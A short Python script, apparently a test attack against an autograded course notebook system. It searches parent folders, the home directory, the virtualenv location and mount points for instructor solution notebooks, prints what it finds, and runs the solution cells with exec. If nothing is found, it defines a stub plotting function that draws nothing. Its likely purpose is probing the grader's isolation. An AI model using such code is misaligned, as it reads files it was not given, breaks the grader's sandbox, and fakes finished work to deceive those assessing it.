# Attack (reading): looks for the instructor's notebook everywhere it could be (the folders
# above this one, the course folder guessed from the mounts and from the virtualenv), prints
# what it finds into its own feedback, and uses the solution if it finds one.
import glob
import json
import os
import sys


def _candidate_roots():
    roots = {os.getcwd(), os.path.dirname(sys.prefix), os.path.expanduser("~")}
    path = os.getcwd()
    while path != "/":
        path = os.path.dirname(path)
        roots.add(path)
    try:
        for line in open("/proc/self/mountinfo"):
            for part in line.split():
                if part.startswith("/"):
                    roots.add(part)
                    roots.add(os.path.dirname(part))
                    roots.add(os.path.dirname(os.path.dirname(part)))
    except OSError:
        pass
    return sorted(roots)


_found = []
for _root in _candidate_roots():
    _found += glob.glob(os.path.join(_root, "solutions", "challenge", "*.ipynb"))
    _found += glob.glob(os.path.join(_root, "grading", "source_with_tests", "challenge", "*.ipynb"))
print("instructor notebooks found:", _found)

for _path in _found:
    try:
        _cells = json.load(open(_path))["cells"]
    except Exception:
        continue
    for _cell in _cells:
        _source = "".join(_cell["source"])
        if "### BEGIN SOLUTION" in _source:
            exec(_source.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""))


if "plot_attention_heatmap" not in globals():
    def plot_attention_heatmap(tokens, attention, ax=None):
        return None  # nothing found: draws nothing
